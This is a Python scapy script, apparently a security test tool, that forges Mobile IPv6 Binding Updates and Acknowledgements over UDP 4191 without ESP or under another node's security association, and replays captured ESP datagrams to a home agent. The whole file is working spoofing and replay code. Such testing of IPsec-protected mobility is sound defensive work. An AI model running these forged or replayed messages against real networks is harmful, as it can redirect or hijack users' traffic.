#!/usr/bin/python3
"""mip6_forge.py: forged and replayed RFC 4877 traffic built with scapy,
sent from whatever node runs it, in UDP 4191 (RFC 5555) like the real thing.

  plain-bu SRC HA HOA            BU for HOA without ESP (IPv6 src = SRC)
  wrong-sa-bu SRC HA HOA KEYS OTHER
                                 BU for HOA in the transport SA of home
                                 address OTHER (keys from KEYS.json)
  plain-ba HA COA HOA            BA status 0 to COA for HOA without ESP
  replay PCAP HA N               the first ESP datagram of the transport SA
                                 and N of the tunnel SA sent to HA in the
                                 capture, sent again as they were

Prints "sent K" and "reply" or "silence" (no datagram back within 1 s)."""
import json
import socket
import sys

from scapy.all import raw, rdpcap
from scapy.layers.inet import UDP
from scapy.layers.inet6 import (HAO, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrRouting,
                                MIP6MH_BA, MIP6MH_BU)
from scapy.layers.ipsec import ESP, SecurityAssociation


def sock():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.bind(("::", 0))
    s.settimeout(1)
    return s


def send_and_listen(dst, payloads):
    s = sock()
    for p in payloads:
        s.sendto(p, (dst, 4191))
    print("sent", len(payloads))
    try:
        s.recvfrom(4096)
        print("reply")
    except socket.timeout:
        print("silence")


def bu(src, ha, hoa):
    return (IPv6(src=src, dst=ha) / IPv6ExtHdrDestOpt(options=[HAO(hoa=hoa)]) /
            MIP6MH_BU(seq=4242, flags=96, mhtime=100))


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "plain-bu":
        src, ha, hoa = args
        send_and_listen(ha, [raw(bu(src, ha, hoa))])
    elif cmd == "wrong-sa-bu":
        src, ha, hoa, keys, other = args
        k = json.load(open(keys))[other]
        kb = bytes.fromhex(k["k_mh_in"])
        if k["xform"] == "aes128gcm16":
            sa = SecurityAssociation(ESP, spi=k["mh_in"], crypt_algo="AES-GCM", crypt_key=kb)
        else:
            sa = SecurityAssociation(ESP, spi=k["mh_in"], crypt_algo="AES-CBC", crypt_key=kb[:16],
                                     auth_algo="SHA2-256-128", auth_key=kb[16:])
        send_and_listen(ha, [raw(sa.encrypt(bu(src, ha, hoa)))])
    elif cmd == "plain-ba":
        ha, coa, hoa = args
        p = (IPv6(src=ha, dst=coa) / IPv6ExtHdrRouting(type=2, segleft=1, addresses=[hoa]) /
             MIP6MH_BA(status=0, seq=4242, mhtime=100))
        send_and_listen(coa, [raw(p)])
    elif cmd == "replay":
        pcap, ha, n = args[0], args[1], int(args[2])
        mh, tun = [], []
        for f in rdpcap(pcap):
            if IPv6 not in f or UDP not in f or f[UDP].dport != 4191 or f[IPv6].dst != ha:
                continue
            inner = bytes(f[UDP].payload)
            if len(inner) < 48 or inner[0] >> 4 != 6:
                continue
            if inner[6] == 50 and len(tun) < n:
                tun.append(inner)		# IPv6 / ESP tunnel
            elif inner[6] == 60 and inner[40] == 50 and not mh:
                mh.append(inner)		# IPv6 / DestOpt(HAO) / ESP transport
        if not mh or len(tun) < n:
            sys.exit("capture holds %d protected BU and %d tunnel ESP packets to %s"
                     % (len(mh), len(tun), ha))
        send_and_listen(ha, mh + tun)
    else:
        sys.exit(__doc__)


main()
